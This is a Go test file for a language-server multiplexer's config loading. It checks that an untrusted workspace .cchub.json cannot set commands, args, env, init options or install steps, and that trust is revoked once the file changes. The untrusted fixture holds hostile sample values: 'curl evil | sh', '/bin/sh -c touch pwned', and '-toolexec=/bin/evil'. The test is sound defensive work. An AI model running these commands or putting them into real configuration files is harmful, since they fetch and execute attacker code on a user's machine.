package lspmux

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"cchub/trust"
)

// .cchub.json changes built-in servers, adds new ones and sets the times;
// a file that does not read is an error that names it and the field.
func TestConfigFile(t *testing.T) {
	root, dir := goWorkspace(t)
	cfg := `{"idle": "2m", "diagnostics_timeout": "9s", "servers": [
		{"name": "gopls", "args": ["-remote=auto"]},
		{"name": "pyright", "disabled": true},
		{"name": "zls", "command": "zls", "languages": {".zig": "zig"}, "root_markers": ["build.zig"]}]}`
	if err := os.WriteFile(filepath.Join(dir, ConfigFile), []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv(trust.EnvDir, t.TempDir())
	if err := trust.Grant(root.Dir(), []byte(cfg), nil); err != nil {
		t.Fatal(err)
	}
	m, err := New(root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	if m.idle != 2*time.Minute || m.timeout != 9*time.Second {
		t.Errorf("idle %v, timeout %v", m.idle, m.timeout)
	}
	// The command line's --diagnostics-timeout wins over the file.
	if m2, err := New(root, Options{TimeoutOverride: 30 * time.Second}); err != nil || m2.timeout != 30*time.Second {
		t.Errorf("with an override of 30s: %v, %v", m2, err)
	} else {
		m2.Close()
	}
	byName := map[string]Spec{}
	for _, s := range m.specs {
		byName[s.Name] = s
	}
	if g := byName["gopls"]; len(g.Args) != 1 || g.Args[0] != "-remote=auto" || g.Command != "gopls" || !g.ProgressSettles {
		t.Errorf("gopls: %+v", g)
	}
	if !byName["pyright"].Disabled {
		t.Error("pyright not disabled")
	}
	if z := byName["zls"]; z.Languages[".zig"] != "zig" {
		t.Errorf("zls: %+v", z)
	}
	if _, err := m.ownerOf("x.py"); err == nil || !strings.Contains(err.Error(), "no language server for this kind of file") {
		t.Errorf("a disabled server still owns .py: %v", err)
	}
	for _, c := range []struct{ cfg, want string }{
		{`{"idle": "soon"}`, `idle "soon" is not a duration`},
		{`{"servers": [{"name": "x", "command": "x"}]}`, `server "x" needs command, languages and root_markers`},
		{`{not json`, ".cchub.json is not valid"},
	} {
		os.WriteFile(filepath.Join(dir, ConfigFile), []byte(c.cfg), 0o644)
		trust.Grant(root.Dir(), []byte(c.cfg), nil)
		if _, err := New(root, Options{}); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q", c.cfg, err, c.want)
		}
	}
}

// An untrusted .cchub.json names no program: command, args, env,
// init_options, install and added servers are skipped and named in the
// note; the times, disabled servers and where a server serves still
// apply. Trusting exactly this content applies all of it; any change to
// the file revokes that.
func TestConfigFileUntrusted(t *testing.T) {
	root, dir := goWorkspace(t)
	t.Setenv(trust.EnvDir, t.TempDir())
	cfg := `{"idle": "2m", "diagnostics_timeout": "9s", "servers": [
		{"name": "gopls", "command": "/bin/sh", "args": ["-c", "touch pwned"], "env": {"GOFLAGS": "-toolexec=/bin/evil"},
		 "init_options": {"buildFlags": ["-toolexec=/bin/evil"]}, "install": "curl evil | sh", "quiet_ms": 700},
		{"name": "pyright", "disabled": true},
		{"name": "zls", "command": "zls", "languages": {".zig": "zig"}, "root_markers": ["build.zig"]}]}`
	if err := os.WriteFile(filepath.Join(dir, ConfigFile), []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	builtin := map[string]Spec{}
	for _, s := range Builtin() {
		builtin[s.Name] = s
	}
	m, err := New(root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	if m.idle != 2*time.Minute || m.timeout != 9*time.Second {
		t.Errorf("untrusted times not applied: idle %v, timeout %v", m.idle, m.timeout)
	}
	byName := map[string]Spec{}
	for _, s := range m.specs {
		byName[s.Name] = s
	}
	g, b := byName["gopls"], builtin["gopls"]
	if g.Command != b.Command || len(g.Args) != len(b.Args) || g.Env != nil || g.Install != b.Install || g.QuietMS != 700 {
		t.Errorf("untrusted gopls took a program field (or lost quiet_ms): %+v", g)
	}
	if fmt.Sprint(g.InitOptions) != fmt.Sprint(b.InitOptions) {
		t.Errorf("untrusted init_options applied: %v", g.InitOptions)
	}
	if _, added := byName["zls"]; added {
		t.Error("an untrusted file added a server")
	}
	if !byName["pyright"].Disabled {
		t.Error("disabled does not apply untrusted")
	}
	note := m.ConfigNote()
	for _, want := range []string{"servers[gopls].command", "servers[gopls].args", "servers[gopls].env", "servers[gopls].init_options", "servers[gopls].install", "servers[zls] (a server of its own)", "this workspace is not trusted", "cchub trust"} {
		if !strings.Contains(note, want) {
			t.Errorf("note lacks %q: %s", want, note)
		}
	}
	if strings.Contains(note, "quiet_ms") || strings.Contains(note, "pyright") {
		t.Errorf("note names a setting that applied: %s", note)
	}

	// Trusted with exactly this content: all of it applies, nothing said.
	if err := trust.Grant(root.Dir(), []byte(cfg), nil); err != nil {
		t.Fatal(err)
	}
	m2, err := New(root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer m2.Close()
	if m2.ConfigNote() != "" {
		t.Errorf("trusted, yet: %s", m2.ConfigNote())
	}
	for _, s := range m2.specs {
		if s.Name == "gopls" && s.Command != "/bin/sh" {
			t.Errorf("trusted gopls command %q", s.Command)
		}
	}

	// One byte more, and the trust is gone.
	os.WriteFile(filepath.Join(dir, ConfigFile), []byte(cfg+" "), 0o644)
	m3, err := New(root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer m3.Close()
	if !strings.Contains(m3.ConfigNote(), ".cchub.json changed since it was trusted") {
		t.Errorf("a changed file: %q", m3.ConfigNote())
	}
	for _, s := range m3.specs {
		if s.Name == "gopls" && s.Command == "/bin/sh" {
			t.Error("a changed file still runs its command")
		}
	}
}
